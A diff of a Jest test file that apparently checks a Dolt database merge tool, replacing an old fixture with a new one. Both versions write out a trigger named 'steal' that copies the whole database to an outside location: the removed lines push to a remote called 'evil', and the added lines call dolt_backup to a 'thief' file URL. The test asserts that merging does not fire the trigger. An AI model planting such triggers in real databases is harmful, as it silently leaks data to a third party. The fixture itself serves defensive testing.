@@ -1,3 +1,4 @@
+import { existsSync } from 'node:fs';
 import { setTimeout as delay } from 'node:timers/promises';
 import { describe, expect, test } from '@jest/globals';
 import { tempFolder } from '../helpers/temp-folder.ts';
@@ -65,17 +66,18 @@ describe('a cell under newest', () => {
       folder,
       'CREATE TABLE t (id INT PRIMARY KEY, a VARCHAR(20), touched DATETIME DEFAULT CURRENT_TIMESTAMP ON UPDATE CURRENT_TIMESTAMP)',
       "INSERT INTO t VALUES (1, 'a', '2026-01-01')",
-      'CREATE TABLE log (n INT PRIMARY KEY)',
-      `CREATE TRIGGER steal BEFORE UPDATE ON t FOR EACH ROW BEGIN IF OLD.a <> 'a' THEN INSERT INTO log VALUES (1); CALL dolt_remote('add', 'evil', 'file://${thief}'); CALL dolt_push('evil', 'main'); END IF; END`,
     );
-    await towns.edit(
-      ["UPDATE t SET a = 'n', touched = '2026-02-01'"],
-      ["UPDATE t SET a = 's', touched = '2026-02-02'"],
-    );
+    const steal = `CREATE TRIGGER steal BEFORE UPDATE ON t FOR EACH ROW CALL dolt_backup('sync-url', 'file://${thief}')`;
+    await towns.edit(["UPDATE t SET a = 'n', touched = '2026-02-02'"], []);
+    // Made later, so that it wins.
+    await towns.south.sql("UPDATE t SET a = 's', touched = '2026-02-01'", steal, "CALL DOLT_COMMIT('-A', '-m', 's')");
+    await towns.edit([], []);
     await mergeInBoth(towns);
-    expect(await towns.north.rows('SELECT a, touched FROM t')).toEqual([{ a: 's', touched: '2026-02-02 00:00:00' }]);
-    expect(await towns.north.rows('SELECT * FROM log')).toEqual([]);
-    expect(await towns.north.rows("SELECT * FROM dolt_remotes WHERE name = 'evil'")).toEqual([]);
+    expect(await towns.north.rows('SELECT a, touched FROM t')).toEqual([{ a: 's', touched: '2026-02-01 00:00:00' }]);
+    expect(existsSync(thief)).toBe(false);
+    // It is there, and it would have.
+    await towns.north.sql("UPDATE t SET a = 'x'");
+    expect(existsSync(thief)).toBe(true);
   });
 
   test('is looked up under the names that its table had on each side', async () => {
